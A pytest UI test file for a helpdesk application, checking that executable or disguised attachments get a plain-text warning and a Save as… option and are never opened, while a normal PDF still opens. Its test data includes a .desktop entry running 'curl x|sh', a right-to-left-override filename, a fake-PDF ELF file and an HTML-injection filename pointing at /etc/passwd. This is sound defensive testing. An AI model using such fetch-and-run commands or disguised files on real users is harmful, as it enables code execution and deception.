"""Attachments that can run are never run: opening one shows a plain warning with Save as…, and
Desk never hands it to the desktop's opener. Qt's own hook for "file" URLs
(QDesktopServices.setUrlHandler) observes whether Desk tried to open anything."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from PySide6.QtCore import QObject, Qt, QUrl, Slot
from PySide6.QtGui import QDesktopServices
from PySide6.QtWidgets import QLabel

from desk_app.store import Service
from desk_app.store.command_base import NewAttachment
from tests.ui.conftest import new_ticket, settle

# The offscreen platform cannot pass a dialog's size hints to a window system it does not have.
pytestmark = pytest.mark.qt_log_ignore(r"This plugin does not support propagateSizeHints\(\)")

WARNING = (
    "This file can run programs on your computer; Desk will not open it. Save it and scan it first."
)
PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n"
ELF = b"\x7fELF\x02\x01\x01" + bytes(120)


class OpenedFiles(QObject):
    """Receives every file URL Desk asks the desktop to open."""

    def __init__(self) -> None:
        super().__init__()
        self.urls: list[QUrl] = []

    @Slot(QUrl)
    def open_url(self, url: QUrl) -> None:
        self.urls.append(url)


@pytest.fixture
def opened() -> Iterator[OpenedFiles]:
    handler = OpenedFiles()
    QDesktopServices.setUrlHandler("file", handler, "open_url")
    yield handler
    QDesktopServices.unsetUrlHandler("file")


def _ticket_with(db, clock, filename: str, content: bytes) -> int:
    service = Service(db, None, clock)
    ticket = new_ticket(service, "Your invoice", "billing@example.com")
    service.add_inbound_message(
        ticket,
        "Please see the attached invoice.",
        attachments=[NewAttachment(filename, "application/octet-stream", content)],
    )
    return ticket


def _open_pane(qtbot, ctx, open_window, ticket: int):
    window = open_window(ctx, view="all_open", ticket=ticket)
    window.open_ticket(ticket)
    qtbot.waitUntil(lambda: window.ticket_pane.detail is not None, timeout=5000)
    settle(qtbot, window)
    pane = window.ticket_pane
    attachments = [a for m in pane.detail.messages for a in m.attachments]
    assert len(attachments) == 1
    return window, pane, attachments[0]


@pytest.mark.parametrize(
    ("filename", "content"),
    [
        ("invoice.pdf.exe", PDF),
        ("report.pdf.desktop", b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl x|sh'\n"),
        ("invoice\u202efdp.exe", PDF),
        ("invoice.pdf", ELF),  # the name lies; the content is a program
        ("offer.docm", PDF),
        ("<b>PWNED</b><img src=file:///etc/passwd>.exe", PDF),  # the warning shows it as text
    ],
)
def test_a_runnable_attachment_gets_a_warning_and_save_as_never_the_opener(
    qtbot, db, clock, ctx, open_window, opened, tmp_path, filename, content
):
    ticket = _ticket_with(db, clock, filename, content)
    window, pane, attachment = _open_pane(qtbot, ctx, open_window, ticket)

    pane.open_attachment(attachment.id)
    qtbot.waitUntil(
        lambda: pane.run_warning is not None and pane.run_warning.isVisible(), timeout=5000
    )
    box = pane.run_warning
    assert box.text() == WARNING
    assert filename in box.informativeText()
    texts = [label for label in box.findChildren(QLabel) if label.text()]
    assert texts and all(label.textFormat() == Qt.TextFormat.PlainText for label in texts)
    save = next(b for b in box.buttons() if b.text() == "Save as…")
    settle(qtbot, window)
    assert opened.urls == []

    save.click()
    qtbot.waitUntil(
        lambda: pane.save_dialog is not None and pane.save_dialog.isVisible(), timeout=5000
    )
    target = tmp_path / "saved-for-scanning.bin"
    pane.save_dialog.fileSelected.emit(str(target))
    pane.save_dialog.close()
    # Written on the task runner: wait for the whole file, not just its name.
    qtbot.waitUntil(lambda: target.exists() and target.read_bytes() == content, timeout=5000)
    settle(qtbot, window)
    assert opened.urls == []


def test_an_ordinary_document_still_opens_in_the_desktops_viewer(
    qtbot, db, clock, ctx, open_window, opened
):
    ticket = _ticket_with(db, clock, "invoice.pdf", PDF)
    _window, pane, attachment = _open_pane(qtbot, ctx, open_window, ticket)
    pane.open_attachment(attachment.id)
    qtbot.waitUntil(lambda: len(opened.urls) == 1, timeout=5000)
    path = opened.urls[0].toLocalFile()
    assert path.endswith("invoice.pdf")
    with open(path, "rb") as file:
        assert file.read() == PDF
    assert pane.run_warning is None
